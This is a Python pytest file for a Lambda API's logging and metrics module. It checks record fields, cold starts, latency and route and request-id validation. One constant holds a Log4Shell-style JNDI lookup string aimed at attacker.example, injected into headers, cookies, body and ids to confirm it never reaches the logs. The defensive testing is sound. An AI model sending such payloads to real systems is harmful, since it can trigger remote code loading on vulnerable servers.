"""What on-call reads (petsage_api.observability): one record per answered invocation, metrics and
fields together, nothing the caller sent; Logger lines with the same ids; and which loggers the
function takes over (the SDK's, even those imported later, no one else's)."""

from __future__ import annotations

import json
import logging
import warnings
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest

from petsage_api import observability
from petsage_api.health.models import HealthCheckResponse
from tests.conftest import fresh_environment, load_event, records, run_in_fresh_interpreter

Invoke = Callable[[Any], Any]
Written = Callable[[], list[dict[str, Any]]]
INJECTION = "${jndi:ldap://attacker.example/a}"


def directive(record: dict[str, Any]) -> dict[str, Any]:
    [only] = record["_aws"]["CloudWatchMetrics"]
    assert isinstance(only, dict)
    return only


def metric_names(record: dict[str, Any]) -> set[str]:
    return {metric["Name"] for metric in directive(record)["Metrics"]}


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Callable[[float], None]:
    """perf_counter as the observability module sees it: each call returns the next value set."""
    readings: list[float] = []
    monkeypatch.setattr("petsage_api.observability.time.perf_counter", lambda: readings.pop(0))
    return lambda value: readings.append(value)


# --- the invocation's record ------------------------------------------------------------------------


def test_an_http_request_writes_exactly_one_line_holding_its_metrics_and_fields(
    invoke: Invoke, written: Written
) -> None:
    event = load_event("health")
    invoke(event)
    [line] = written()
    assert line["message"] == "Request answered"
    assert line["level"] == "INFO"
    assert (line["route"], line["status"]) == ("GET /api/v1/health", 200)
    assert line["correlation_id"] == event["requestContext"]["requestId"]  # the access log's requestId
    assert line["function_request_id"]  # Lambda's, from the context
    assert (line["service"], line["deployment"]) == ("petsage-health", "local")
    assert isinstance(line["cold_start"], bool)
    # The same line is the EMF document CloudWatch turns into metrics.
    assert directive(line)["Namespace"] == "PetSage"
    assert directive(line)["Dimensions"] == [["deployment", "route", "service"]]
    assert line["Faults"] == [0.0]  # one sample per request: SampleCount counts requests


def test_latency_is_the_handlers_time_in_milliseconds(invoke: Invoke, written: Written, clock: Any) -> None:
    clock(100.0)  # begin
    clock(100.0125)  # record
    invoke(load_event("health"))
    [line] = written()
    assert line["latency_ms"] == 12.5


def test_the_lambda_request_id_is_the_contexts(written: Written) -> None:
    from handler import lambda_handler
    from local_api.lambda_runtime import LocalLambdaContext

    context = LocalLambdaContext(function_name="HealthFunction")
    lambda_handler(load_event("root"), context)
    [line] = written()
    assert line["function_request_id"] == context.aws_request_id


def test_a_cold_start_is_counted_in_the_first_record_only(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh_environment(monkeypatch)
    invoke(load_event("health"))
    invoke(load_event("health"))
    first, second = written()
    assert (first["cold_start"], second["cold_start"]) == (True, False)
    assert first["ColdStart"] == [1.0]
    assert metric_names(first) == {"Faults", "ColdStart"}
    assert metric_names(second) == {"Faults"}


def test_provisioned_concurrency_is_never_a_cold_start(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh_environment(monkeypatch)
    monkeypatch.setenv("AWS_LAMBDA_INITIALIZATION_TYPE", "provisioned-concurrency")
    invoke(load_event("health"))
    [line] = written()
    assert line["cold_start"] is False
    assert "ColdStart" not in metric_names(line)


@pytest.mark.parametrize(
    ("event_name", "route", "status"),
    [
        ("health", "GET /api/v1/health", 200),
        ("health-head", "HEAD /api/v1/health", 200),
        ("root", "GET /", 200),
        ("ready", "GET /api/v1/health/ready", 200),
        ("openapi", "GET /openapi.json", 200),
        ("not-found", "$default", 404),
        ("malformed-http", "malformed", 400),
        ("direct-invoke", "direct", 200),
        ("scheduled", "direct", 200),
    ],
)
def test_every_invocation_writes_one_record_for_its_route(
    invoke: Invoke, written: Written, event_name: str, route: str, status: int
) -> None:
    invoke(load_event(event_name))
    [record] = records(written())
    assert (record["route"], record["status"]) == (route, status)
    assert record["Faults"] == [0.0]


def test_the_route_label_falls_back_to_the_request_contexts_route_key(invoke: Invoke, written: Written) -> None:
    event = load_event("root")
    del event["routeKey"]
    invoke(event)
    [record] = records(written())
    assert record["route"] == "GET /"


@pytest.mark.parametrize(
    ("event_name", "level", "message"),
    [
        ("malformed-http", "WARNING", "Rejected malformed HTTP API event"),
        ("direct-invoke", "INFO", "Direct invocation answered with liveness"),
    ],
)
def test_warnings_and_direct_invocations_add_one_logger_line_with_the_same_ids(
    invoke: Invoke, written: Written, event_name: str, level: str, message: str
) -> None:
    invoke(load_event(event_name))
    lines = written()
    [logged] = records(lines, message)
    [record] = records(lines)
    assert len(lines) == 2
    assert logged["level"] == level
    assert logged["reason"]
    assert logged["function_request_id"] == record["function_request_id"]
    assert logged["deployment"] == record["deployment"] == "local"


def test_a_500_counts_as_a_fault_and_is_recorded_at_error(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    def explode() -> HealthCheckResponse:
        raise RuntimeError("boom")

    monkeypatch.setattr("petsage_api.health.router.liveness", explode)
    invoke(load_event("health"))
    lines = written()
    [record] = records(lines)
    assert (record["level"], record["status"]) == ("ERROR", 500)
    assert record["Faults"] == [1.0]
    [error] = records(lines, "Unhandled error while resolving the request")
    assert error["level"] == "ERROR"
    assert error["function_request_id"] == record["function_request_id"]


def test_no_line_warns_about_empty_metrics(invoke: Invoke) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # "No application metrics to publish" would raise here
        invoke(load_event("direct-invoke"))
        invoke(load_event("health"))


def test_disabled_metrics_print_no_record_and_keep_nothing(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("POWERTOOLS_METRICS_DISABLED", "true")
    for _ in range(3):
        invoke(load_event("health"))
    assert records(written()) == []
    assert observability.metrics.metric_set == {}  # Powertools alone would keep them when disabled
    assert observability.metrics.metadata_set == {}


def test_header_and_body_values_never_reach_the_log_stream(invoke: Invoke, written: Written) -> None:
    event = load_event("health")
    event["headers"]["x-api-version"] = INJECTION
    event["headers"]["user-agent"] = INJECTION
    event["cookies"] = [f"session={INJECTION}"]
    event["body"] = INJECTION
    event["rawQueryString"] = "q=" + INJECTION
    malformed = load_event("health")
    malformed["headers"][INJECTION] = 1  # a non-string header: malformed, and its name is caller text
    invoke(event)
    invoke(malformed)
    text = json.dumps(written())
    assert "Request answered" in text
    assert "jndi" not in text


def test_hand_made_request_ids_and_route_keys_are_not_trusted(invoke: Invoke, written: Written) -> None:
    event = load_event("health")
    event["requestContext"]["requestId"] = INJECTION
    event["routeKey"] = event["requestContext"]["routeKey"] = f"GET /{INJECTION}"
    invoke(event)
    [record] = records(written())
    assert "correlation_id" not in record
    assert record["route"] == "unknown"


def test_no_key_of_one_invocation_leaks_into_the_next(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    def liveness_that_tags_the_log() -> HealthCheckResponse:
        observability.logger.append_keys(pet_id="first-invocation-only")
        observability.logger.warning("tagged")
        return HealthCheckResponse()

    monkeypatch.setattr("petsage_api.health.router.liveness", liveness_that_tags_the_log)
    invoke(load_event("health"))
    monkeypatch.undo()
    second = load_event("malformed-http")
    second["requestContext"]["requestId"] = "Vq1aAbCdIAMEsEc="
    invoke(second)
    invoke(load_event("direct-invoke"))
    tagged = records(written(), "tagged")[0]
    malformed = records(written(), "Rejected malformed HTTP API event")[0]
    direct = records(written(), "Direct invocation answered with liveness")[0]
    assert tagged["pet_id"] == "first-invocation-only"
    assert "pet_id" not in malformed
    assert malformed["correlation_id"] == "Vq1aAbCdIAMEsEc="
    assert "correlation_id" not in direct
    assert len({tagged["function_request_id"], malformed["function_request_id"], direct["function_request_id"]}) == 3


def test_the_record_carries_the_x_ray_trace_id_without_its_parent_and_sampling(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("_X_AMZN_TRACE_ID", "Root=1-69258a00-0123456789abcdef01234567;Parent=53995c3f42cd8ad8;Sampled=1")
    invoke(load_event("health"))
    [record] = records(written())
    assert record["xray_trace_id"] == "1-69258a00-0123456789abcdef01234567"


def test_without_a_trace_id_the_record_has_no_trace_field(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("_X_AMZN_TRACE_ID", raising=False)
    invoke(load_event("health"))
    [record] = records(written())
    assert "xray_trace_id" not in record


def test_a_rejected_event_is_recorded_as_a_400_that_is_no_fault(invoke: Invoke, written: Written) -> None:
    invoke(load_event("malformed-http"))
    [record] = records(written())
    assert (record["route"], record["status"], record["level"]) == ("malformed", 400, "INFO")
    assert record["Faults"] == [0.0]
    assert record["correlation_id"] == load_event("malformed-http")["requestContext"]["requestId"]


def test_the_route_label_is_the_events_route_key_first(invoke: Invoke, written: Written) -> None:
    event = load_event("root")
    event["requestContext"]["routeKey"] = "GET /api/v1/health"  # never differs in API Gateway's events
    invoke(event)
    [record] = records(written())
    assert record["route"] == "GET /"


@pytest.mark.parametrize("route_key", [None, 7, "get /", "GET api/v1/health", "GET /" + "a" * 129])
def test_a_route_key_api_gateway_would_not_send_is_recorded_as_unknown(
    invoke: Invoke, written: Written, route_key: Any
) -> None:
    event = load_event("root")
    event["routeKey"] = event["requestContext"]["routeKey"] = route_key
    invoke(event)
    [record] = records(written())
    assert record["route"] == "unknown"


def test_the_greatest_route_key_api_gateway_could_send_is_kept(invoke: Invoke, written: Written) -> None:
    event = load_event("not-found")
    route_key = "GET /" + "a" * 128
    event["routeKey"] = event["requestContext"]["routeKey"] = route_key
    invoke(event)
    [record] = records(written())
    assert record["route"] == route_key


@pytest.mark.parametrize("request_id", ["", "a" * 65, "Vq1aAbCd IAMEbcA=", 12345])
def test_a_request_id_api_gateway_would_not_send_is_no_correlation_id(
    invoke: Invoke, written: Written, request_id: Any
) -> None:
    event = load_event("health")
    event["requestContext"]["requestId"] = request_id
    invoke(event)
    [record] = records(written())
    assert "correlation_id" not in record


def test_a_request_id_of_64_characters_is_the_correlation_id(invoke: Invoke, written: Written) -> None:
    event = load_event("health")
    event["requestContext"]["requestId"] = "a" * 64
    invoke(event)
    [record] = records(written())
    assert record["correlation_id"] == "a" * 64


# --- the record's metrics: units, latency's precision, the cold start on every line ---


def test_every_request_metric_is_a_count(invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch) -> None:
    fresh_environment(monkeypatch)
    invoke(load_event("health"))
    [record] = records(written())
    [directive] = record["_aws"]["CloudWatchMetrics"]
    assert {metric["Name"]: metric["Unit"] for metric in directive["Metrics"]} == {
        "Faults": "Count",
        "ColdStart": "Count",
    }


def test_latency_is_kept_to_the_microsecond(invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch) -> None:
    readings = [100.0, 100.0123456]  # begin, record
    monkeypatch.setattr(observability, "time", SimpleNamespace(perf_counter=lambda: readings.pop(0)))
    invoke(load_event("health"))
    [record] = records(written())
    assert record["latency_ms"] == 12.346


def test_every_logger_line_says_whether_its_invocation_was_a_cold_start(
    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh_environment(monkeypatch)
    invoke(load_event("direct-invoke"))
    invoke(load_event("direct-invoke"))
    lines = [line for line in written() if line["message"] == "Direct invocation answered with liveness"]
    assert [line["cold_start"] for line in lines] == [True, False]


# --- the SDK's loggers: warnings only, as JSON, whenever they are imported -------------------------


def test_sdk_loggers_write_only_warnings_in_the_functions_format(written: Written, invoke: Invoke) -> None:
    observability.quiet_third_party_loggers()
    invoke(load_event("root"))  # an invocation's keys are in place, as when readiness makes its clients
    logging.getLogger("botocore.credentials").info("Found credentials in environment variables.")
    logging.getLogger("urllib3.connectionpool").debug("Starting new HTTPS connection")
    logging.getLogger("botocore.endpoint").warning("Retrying request")
    lines = written()
    messages = [line["message"] for line in lines]
    assert "Found credentials in environment variables." not in messages
    assert "Starting new HTTPS connection" not in messages
    [warning] = records(lines, "Retrying request")
    assert warning["level"] == "WARNING"
    assert warning["service"] == "petsage-health"
    assert warning["function_request_id"] == records(lines)[0]["function_request_id"]
    assert not logging.getLogger("botocore").propagate  # the runtime's root handler never sees them


def test_sdk_loggers_imported_after_the_clients_are_made_write_warnings_as_json() -> None:
    # In this process too, only so that `make mutation` runs this test for the function: mutmut
    # relates tests to the functions they call in its own process, never in a child's.
    observability.quiet_third_party_loggers()
    # A fresh interpreter: urllib3 is not imported yet when readiness quiets the SDK's loggers.
    script = (
        "import logging, sys\n"
        "from petsage_api import observability\n"
        "assert 'urllib3' not in sys.modules\n"
        "observability.quiet_third_party_loggers()\n"
        "import urllib3\n"
        "logging.getLogger('urllib3.connectionpool').info('Starting new HTTPS connection')\n"
        "logging.getLogger('urllib3.connectionpool').warning('Retrying')\n"
    )
    result = run_in_fresh_interpreter(script)
    [line] = [json.loads(line) for line in result.stdout.splitlines()]
    assert (line["message"], line["level"], line["service"]) == ("Retrying", "WARNING", "petsage-health")
    assert result.stderr == ""  # nothing reached Python's last-resort handler in plain text


def test_only_the_sdks_loggers_are_taken_over() -> None:
    unrelated = logging.getLogger("petsage_unrelated_library")
    observability.quiet_third_party_loggers()
    assert (unrelated.level, unrelated.handlers, unrelated.propagate) == (logging.NOTSET, [], True)
